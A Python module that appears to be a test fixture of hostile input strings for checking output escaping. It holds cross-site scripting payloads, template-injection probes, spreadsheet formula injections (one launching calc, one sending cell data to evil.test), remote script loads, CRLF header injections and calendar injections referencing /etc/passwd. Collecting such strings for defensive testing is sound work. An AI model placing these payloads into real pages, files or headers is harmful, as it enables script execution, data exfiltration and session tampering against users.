"""120 texts that would do harm where an output let them: as markup, as a formula, as a header."""

from __future__ import annotations

TAGS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.test/x.js></script>",
    "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><script>alert(1)</script>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=javascript:alert(1)><button>x", "<button formaction=javascript:alert(1)>x",
    "<base href=//evil.test/>", "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<link rel=stylesheet href=//evil.test/x.css>", "<style>@import '//evil.test/x.css'</style>",
    "<div style=background:url(javascript:alert(1))>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<xmp><script>alert(1)</script>",
    "<plaintext>", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<script\x20type='text/javascript'>alert(1)</script>",
)  # fmt: skip
BREAKS = (
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\" autofocus onfocus=\"alert(1)\" x=\"",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "*/alert(1)/*", "';alert(1)//",
    "\";alert(1)//", "`${alert(1)}`", "\\\";alert(1)//", "{{constructor.constructor('alert(1)')()}}",
    "{% load static %}{{ settings.SECRET_KEY }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "&lt;script&gt;",
)  # fmt: skip
MARKUP = TAGS + BREAKS
FORMULAS = tuple(
    start + body
    for body in ("cmd|'/c calc'!A0", 'HYPERLINK("//evil.test?"&A1,"x")', "1+1")
    for start in ("=", "+", "-", "@", "\t=", " =", "\u00a0=", "\r=", "\n=", "=\t")
)
HEADERS = (
    "x\r\nSet-Cookie: a=b", "x\nSet-Cookie: a=b", "x\rSet-Cookie: a=b", "x%0d%0aSet-Cookie:%20a=b",
    "x\r\n\r\n<script>alert(1)</script>", "x\u2028Set-Cookie: a=b", "x\u2029alert(1)",
    "x\u00a0Set-Cookie: a=b", "\"; filename=\"evil.html", "x%0b%0cy",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:alert(1))", "![x](javascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>", "[x]: javascript:alert(1)", "[![x](x)](javascript:alert(1))",
    "```\n<script>alert(1)</script>\n```", "`<img src=x onerror=alert(1)>`", "| a | b |\n|---|---|",
    "# <script>alert(1)</script>",
)  # fmt: skip
CALENDAR = (
    "x\nBEGIN:VEVENT", "x\r\nEND:VCALENDAR", "x\nATTACH:file:///etc/passwd", "x;VALUE=URI:http://evil",
    "x,y;z\\n", "x\nSUMMARY:other", "x\r\n ORGANIZER:mailto:a@b", "BEGIN:VCARD\nEND:VCARD",
    "x\\;y\\,z", "x\nX-WR-CALNAME:evil",
)  # fmt: skip
HOSTILE = MARKUP + FORMULAS + HEADERS + MARKDOWN + CALENDAR
